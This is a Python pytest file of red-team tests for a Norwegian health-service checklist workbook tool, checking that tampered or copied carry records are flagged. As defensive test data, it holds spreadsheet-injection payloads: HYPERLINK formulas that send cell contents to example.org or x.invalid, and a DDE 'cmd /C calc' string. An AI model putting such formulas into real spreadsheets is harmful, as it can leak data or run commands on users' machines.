"""Red team: a returned pre-filled skjema's carry record is untrusted input.

Every way the record can be lost, edited, padded or copied from another skjema must give a
bokmål finding that says where (file, sheet, cell) and must never count a skjema as gone through
when it was not; and last round's hostile texts must carry as inert text.
"""

from __future__ import annotations

import datetime as dt
import shutil
import subprocess
from collections.abc import Callable
from pathlib import Path
from typing import Any

import openpyxl
import pytest

from statuskart.catalog.model import Catalogue
from statuskart.core.errors import OutputError
from statuskart.pipeline.run import check_files
from statuskart.validate.model import FileReport
from statuskart.workbook import carry_record
from statuskart.workbook import layout as L
from statuskart.workbook.carry import (
    CARRIED_FILL,
    MIRROR_NAME,
    MIRROR_OFFSET,
    CarriedAnswer,
    Carry,
    write_carried,
)
from statuskart.workbook.styles import INPUT_FILL

from .conftest import TODAY, raw_of
from .test_workbook_formats import SOFFICE, SSCONVERT, _convert, _ssconvert

META = {
    "rhf": "Helse Vest RHF",
    "hf": "Helse Førde HF",
    "unit": "Ambulant rusteam Dalen",
    "unit_type": "ambulant",
    "period": "2026-T3",
}
OTHER = {**META, "unit": "Ambulant rusteam Midt"}
RECORD = carry_record.RECORD_SHEET
Edit = Callable[[Any], None]


def skjema(folder: Path, tsb: Catalogue, meta: dict[str, str], name: str) -> Path:
    """A pre-filled skjema with three carried answers, for ``meta``'s unit."""
    answers = (
        CarriedAnswer(requirement_id="TSB-06", status="Påbegynt", comment="Noen bruker malen."),
        CarriedAnswer(requirement_id="TSB-07", status="Implementert"),
        CarriedAnswer(
            requirement_id="TSB-08",
            status="Delvis implementert",
            action="Utpeke koordinator.",
            owner="Enhetsleder",
            due=dt.date(2026, 6, 1),
        ),
    )
    carry = Carry(from_period="2026-T2", from_date=dt.date(2026, 5, 20), answers=answers)
    folder.mkdir(parents=True, exist_ok=True)
    return write_carried(tsb, folder / name, meta, carry, unit_type=str(meta["unit_type"]))


def edited(source: Path, target: Path, edit: Edit) -> Path:
    wb = openpyxl.load_workbook(source)
    edit(wb)
    wb.save(target)
    return target


def report_of(path: Path, catalogues: dict[str, Catalogue]) -> FileReport:
    (report,) = check_files([path], catalogues, TODAY)
    return report


def last_row(wb: Any) -> int:
    """The record's last line (the sheet goes on further down with the carried values' mirror)."""
    ws = wb[RECORD]
    return max(r for r in range(1, ws.max_row + 1) if ws.cell(row=r, column=1).value)


def garbage_types(wb: Any) -> None:
    ws = wb[RECORD]
    ws["B1"] = 12345
    ws.cell(row=last_row(wb), column=3).value = dt.date(2020, 1, 1)
    ws["A2"] = True


def formula(wb: Any) -> None:
    wb[RECORD].cell(row=last_row(wb), column=3).value = '=HYPERLINK("https://example.org")'


def padded(wb: Any) -> None:
    ws = wb[RECORD]
    for row in range(last_row(wb) + 1, last_row(wb) + 5001):
        ws.cell(row=row, column=1, value=carry_record.ROW)
        ws.cell(row=row, column=2, value=f"TSB-{row}")
        ws.cell(row=row, column=3, value="0" * 16)


def huge_text(wb: Any) -> None:
    wb[RECORD]["B1"] = "x" * 30000


def row_deleted(wb: Any) -> None:
    wb[RECORD].delete_rows(last_row(wb), 1)


def digest_edited(wb: Any) -> None:
    wb[RECORD].cell(row=last_row(wb), column=3).value = "0" * 16


def sheet_deleted(wb: Any) -> None:
    wb.remove(wb[RECORD])


def seal_deleted(wb: Any) -> None:
    stamp = wb[L.STAMP_SHEET]
    for row in stamp.iter_rows():
        if row[0].value == carry_record.STAMP_KEY:
            row[1].value = None


@pytest.mark.parametrize(
    ("edit", "reason", "sheet"),
    [
        (garbage_types, "er endret", RECORD),
        (formula, "er endret", RECORD),
        (padded, "er endret", RECORD),
        (huge_text, "er endret", RECORD),
        (row_deleted, "er endret", RECORD),
        (digest_edited, "er endret", RECORD),
        (sheet_deleted, "mangler", RECORD),
        (seal_deleted, "mangler forseglingen", L.STAMP_SHEET),
    ],
    ids=lambda v: getattr(v, "__name__", str(v)),
)
def test_a_tampered_record_is_a_finding_with_its_place_never_a_confirmation(
    tmp_path: Path,
    tsb: Catalogue,
    catalogues: dict[str, Catalogue],
    edit: Edit,
    reason: str,
    sheet: str,
) -> None:
    source = skjema(tmp_path / "sent", tsb, META, "sendt.xlsx")
    path = edited(source, tmp_path / "returned.xlsx", edit)
    report = report_of(path, catalogues)
    assert report.submission is not None  # a warning, the answers still count
    assert report.carried is None  # neither confirmed nor untouched: not known
    (found,) = [f for f in report.findings if f.code == "carry-record-invalid"]
    assert found.severity == "warning" and reason in found.message
    assert found.file == str(path) and found.sheet == sheet


def copy_record(source: Path) -> Edit:
    """Put ``source``'s record and seal into the workbook, as a leader copying sheets would."""

    def edit(wb: Any) -> None:
        other = openpyxl.load_workbook(source)
        ws = wb[RECORD]
        ws.delete_rows(1, ws.max_row)
        for row in other[RECORD].iter_rows():
            for cell in row:
                ws.cell(row=cell.row, column=cell.column, value=cell.value)
        seal = {r[0].value: r[1].value for r in other[L.STAMP_SHEET].iter_rows()}
        for row in wb[L.STAMP_SHEET].iter_rows():
            if row[0].value == carry_record.STAMP_KEY:
                row[1].value = seal[carry_record.STAMP_KEY]

    return edit


def front(source: Path, key: str, value: object) -> Edit:
    """Type ``value`` into the front-sheet field ``key`` (found where the reader finds it)."""
    where = raw_of(source).meta[key]

    def edit(wb: Any) -> None:
        wb[where.sheet][where.cell] = value

    return edit


def test_a_record_from_another_units_skjema_is_not_a_confirmation(
    tmp_path: Path, tsb: Catalogue, catalogues: dict[str, Catalogue]
) -> None:
    own = skjema(tmp_path / "sent", tsb, META, "own.xlsx")
    other = skjema(tmp_path / "sent", tsb, OTHER, "other.xlsx")

    # The other skjema's record is sealed and intact, but its digests are of the other unit's
    # answers: read as this unit's, every row would count as changed and the skjema as confirmed.
    path = edited(own, tmp_path / "copied.xlsx", copy_record(other))
    report = report_of(path, catalogues)
    assert report.carried is None and report.submission is not None
    (found,) = [f for f in report.findings if f.code == "carry-record-other"]
    assert "«Ambulant rusteam Midt» i Helse Førde HF" in found.message
    assert found.sheet == L.FRONT_SHEET and found.cell is not None
    assert not [f for f in report.findings if f.code == "carried-untouched"]


@pytest.mark.parametrize(
    ("key", "value", "said"),
    [("unit", "Ambulant rusteam Kysten", "enheten «Ambulant"), ("period", "2027-T1", "runden")],
)
def test_a_skjema_relabelled_for_another_unit_or_round_is_a_finding(
    tmp_path: Path,
    tsb: Catalogue,
    catalogues: dict[str, Catalogue],
    key: str,
    value: str,
    said: str,
) -> None:
    source = skjema(tmp_path / "sent", tsb, META, "sendt.xlsx")
    path = edited(source, tmp_path / "relabelled.xlsx", front(source, key, value))
    report = report_of(path, catalogues)
    assert report.submission is not None
    assert report.carried is None
    (found,) = [f for f in report.findings if f.code == "carry-record-other"]
    assert said in found.message and found.sheet == L.FRONT_SHEET
    assert found.location.startswith(f"{L.FRONT_SHEET}!B")


def test_a_record_for_another_catalogue_version_is_a_finding(
    tmp_path: Path, tsb: Catalogue, catalogues: dict[str, Catalogue]
) -> None:
    source = skjema(tmp_path / "sent", tsb, META, "sendt.xlsx")

    def version(wb: Any) -> None:  # the record and its seal, rewritten as if for another version
        ws = wb[RECORD]
        lines = [
            tuple(str(c.value) if c.value is not None else "" for c in row[:3])
            for row in ws.iter_rows(max_row=last_row(wb))
        ]
        lines = [(k, "2020.1", "") if k == carry_record.VERSION else (k, v, d) for k, v, d in lines]
        for n, (k, v, d) in enumerate(lines, start=1):
            for col, value in enumerate((k, v, d), start=1):
                ws.cell(row=n, column=col, value=value or None)
        for row in wb[L.STAMP_SHEET].iter_rows():
            if row[0].value == carry_record.STAMP_KEY:
                row[1].value = carry_record.record_digest(lines)

    report = report_of(edited(source, tmp_path / "version.xlsx", version), catalogues)
    assert report.carried is None
    (found,) = [f for f in report.findings if f.code == "carry-record-other"]
    assert "katalogversjon 2020.1" in found.message and found.sheet == L.STAMP_SHEET


def test_the_own_record_still_counts_rows_changed_and_untouched(
    tmp_path: Path, tsb: Catalogue, catalogues: dict[str, Catalogue]
) -> None:
    source = skjema(tmp_path / "sent", tsb, META, "sendt.xlsx")
    untouched = report_of(source, catalogues)
    assert untouched.carried is not None and untouched.carried.carried == 3
    assert untouched.carried.untouched == 3
    assert not [f for f in untouched.findings if f.code.startswith("carry-record")]
    record = carry_record.parse_record(
        tuple(tuple(r) for r in openpyxl.load_workbook(source)[RECORD].values),
        next(
            str(r[1])
            for r in openpyxl.load_workbook(source)[L.STAMP_SHEET].values
            if r[0] == carry_record.STAMP_KEY
        ),
    )
    assert isinstance(record, carry_record.CarryRecord)
    assert (record.hf, record.unit, record.period) == (META["hf"], META["unit"], "2026-T3")
    assert record.version == tsb.version


def test_hostile_texts_from_last_round_carry_as_inert_text(
    tmp_path: Path, tsb: Catalogue, catalogues: dict[str, Catalogue]
) -> None:
    hostile = {
        "comment": '=HYPERLINK("https://example.org/?u="&Forside!B7;"klikk")',
        "action": "+cmd|' /C calc'!A0",
        "owner": "@SUM(1+1)",
    }
    long_text = "Lang tekst. " * 900  # about 10,800 characters
    answers = (
        CarriedAnswer(
            requirement_id="TSB-06",
            status="Påbegynt",
            comment=hostile["comment"],
            action=hostile["action"],
            owner=hostile["owner"],
        ),
        CarriedAnswer(requirement_id="TSB-07", status="Påbegynt", comment=long_text),
        CarriedAnswer(requirement_id="TSB-08", status="Påbegynt", comment="Linje\x07med\x1bstyr"),
    )
    carry = Carry(from_period="2026-T2", from_date=None, answers=answers)
    path = write_carried(tsb, tmp_path / "s.xlsx", META, carry, unit_type="ambulant")
    ws = openpyxl.load_workbook(path)[L.CHECKLIST_SHEET]
    keys = [c.key for c in L.COLUMNS]
    rows = {ws.cell(row=r, column=1).value: r for r in range(1, ws.max_row + 1)}
    for key, text in hostile.items():
        cell = ws.cell(row=rows["TSB-06"], column=keys.index(key) + 1)
        assert cell.data_type == "s" and cell.value == text, key
    long_cell = ws.cell(row=rows["TSB-07"], column=keys.index("comment") + 1)
    assert long_cell.data_type == "s" and len(str(long_cell.value)) == len(long_text)
    control = ws.cell(row=rows["TSB-08"], column=keys.index("comment") + 1).value
    assert isinstance(control, str) and "\x07" not in control and "\x1b" not in control
    report = report_of(path, catalogues)
    assert report.submission is not None and report.carried is not None
    assert report.carried.changed == 0  # what was written reads back as the same answer


@pytest.mark.slow
@pytest.mark.skipif(SSCONVERT is None, reason="Gnumeric (ssconvert) is not installed")
def test_a_carried_skjema_resaved_by_gnumeric_keeps_its_record(
    tmp_path: Path, tsb: Catalogue, catalogues: dict[str, Catalogue]
) -> None:
    source = skjema(tmp_path / "sent", tsb, META, "sendt.xlsx")
    resaved = _ssconvert(source, "xlsx", tmp_path)
    before, after = report_of(source, catalogues), report_of(resaved, catalogues)
    assert after.carried == before.carried and after.carried is not None
    assert after.carried.carried == 3 and after.carried.untouched == 3
    assert [f.code for f in after.findings if "carr" in f.code] == ["carried-untouched"]


def test_the_carried_values_are_mirrored_for_a_rule_that_unmarks_a_changed_cell(
    tmp_path: Path, tsb: Catalogue
) -> None:
    path = skjema(tmp_path, tsb, META, "sendt.xlsx")
    wb = openpyxl.load_workbook(path)
    ws = wb[L.CHECKLIST_SHEET]
    (cf,) = list(ws.conditional_formatting)
    (rule,) = cf.rules
    assert rule.type == "expression" and "EXACT(" in rule.formula[0]
    assert MIRROR_NAME in rule.formula[0] and "!" not in rule.formula[0]  # no sheet reference
    assert str(rule.dxf.fill.bgColor.rgb)[-6:] == str(INPUT_FILL.fgColor.rgb)[-6:]
    assert wb.defined_names[MIRROR_NAME].attr_text.startswith(f"'{RECORD}'!")
    hidden = wb[RECORD]
    carried = [
        cell
        for row in ws.iter_rows(min_row=5)
        for cell in row
        if str(cell.fill.fgColor.rgb)[-6:] == str(CARRIED_FILL.fgColor.rgb)[-6:]
        and (cell.column or 0) <= len(L.COLUMNS)
    ]
    assert len(carried) == 7  # status and comment, status, and four cells of TSB-08
    for cell in carried:
        assert cell.coordinate in cf.sqref
        mirror = hidden.cell(row=cell.row or 0, column=(cell.column or 0) + MIRROR_OFFSET).value
        assert mirror == cell.value, cell.coordinate


def _pixels(pdf: Path, colour: str, tmp_path: Path) -> int:
    """Pixels of ``colour`` (RRGGBB) over every page of ``pdf``, rendered at 30 dpi."""
    prefix = tmp_path / pdf.stem
    subprocess.run(["pdftoppm", "-r", "30", str(pdf), str(prefix)], check=True, timeout=120)
    want = bytes.fromhex(colour)
    count = 0
    for page in sorted(tmp_path.glob(f"{pdf.stem}-*.ppm")):
        data = page.read_bytes()
        header = data.split(b"\n", 3)  # P6, width height, 255, pixels
        pixels = header[3]
        count += sum(1 for i in range(0, len(pixels) - 2, 3) if pixels[i : i + 3] == want)
    return count


@pytest.mark.slow
@pytest.mark.skipif(
    SOFFICE is None or shutil.which("pdftoppm") is None,
    reason="LibreOffice (soffice) or pdftoppm is not installed",
)
def test_libreoffice_shows_a_changed_carried_cell_as_an_ordinary_input_cell(
    tmp_path: Path, tsb: Catalogue
) -> None:
    sent = skjema(tmp_path / "sent", tsb, META, "sendt.xlsx")

    def change(wb: Any) -> None:  # TSB-06's status and comment retyped, nothing else
        ws = wb[L.CHECKLIST_SHEET]
        keys = [c.key for c in L.COLUMNS]
        row = next(
            r for r in range(5, ws.max_row + 1) if ws.cell(row=r, column=1).value == "TSB-06"
        )
        ws.cell(row=row, column=keys.index("status") + 1).value = "Implementert"
        ws.cell(row=row, column=keys.index("comment") + 1).value = "Ny rutine fra oktober."

    changed = edited(sent, tmp_path / "endret.xlsx", change)
    blue, yellow = str(CARRIED_FILL.fgColor.rgb)[-6:], str(INPUT_FILL.fgColor.rgb)[-6:]
    counts = {}
    for name, path in (("sent", sent), ("changed", changed)):
        pdf = _convert(path, "pdf", tmp_path / name)
        counts[name] = (_pixels(pdf, blue, pdf.parent), _pixels(pdf, yellow, pdf.parent))
    (blue_sent, yellow_sent), (blue_changed, yellow_changed) = counts["sent"], counts["changed"]
    # Two of the seven blue answer cells turned input-yellow; the rest, and the notes, stay blue.
    assert 0 < blue_changed < blue_sent and yellow_changed > yellow_sent


def test_an_existing_round_folder_is_refused_before_anything_is_read(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, catalogues: dict[str, Catalogue]
) -> None:
    from click.testing import CliRunner

    from statuskart.cli.commands import main
    from statuskart.pipeline import next_round, run

    def never(*args: object, **kwargs: object) -> Any:
        raise AssertionError("read before the refusal")

    (tmp_path / "runde-2027-T1").mkdir()
    (tmp_path / "taken").mkdir()
    monkeypatch.chdir(tmp_path)
    # -o or --period name the folder: refused before the catalogues or any skjema are read.
    monkeypatch.setattr(run, "load_catalogues", never)
    monkeypatch.setattr(next_round, "check_files", never)
    for args in (["-o", "taken"], ["--period", "2027-T1"]):
        done = CliRunner().invoke(main, ["runde", str(tmp_path), *args])
        assert done.exit_code != 0 and "finnes fra før" in done.output, args
        assert "read before" not in done.output
    # Neither: the round is the one after the newest found, so the front sheets are read, but
    # the refusal comes before any planning or writing.
    monkeypatch.undo()
    monkeypatch.chdir(tmp_path)
    monkeypatch.setattr(next_round, "plan_round", never)
    (tmp_path / "runde-2026-T3").mkdir()
    sample = Path(__file__).resolve().parents[1] / "checklists" / "2026-T2"
    with pytest.raises(OutputError, match="finnes fra før") as refused:
        next_round.make_round([sample], catalogues, catalogues["tsb"])
    assert "runde-2026-T3" in str(refused.value)


def test_the_summary_keeps_typed_names_as_inert_text(tmp_path: Path) -> None:
    """Unit and HF names reach the summary as text: no formula, no character a cell cannot hold."""
    from statuskart.workbook.round_summary import write_round_summary

    row = ('=HYPERLINK("https://x.invalid/?u="&C2)', "HF\x07", "Enhet", "", "", "f.xlsx", 3, 1, "")
    path = tmp_path / "oversikt.xlsx"
    write_round_summary([row], path)
    sheet = openpyxl.load_workbook(path).worksheets[0]
    cell_a, cell_b = sheet["A2"], sheet["B2"]
    assert cell_a.data_type == "s" and cell_a.value == row[0]
    assert cell_b.value == "HF "
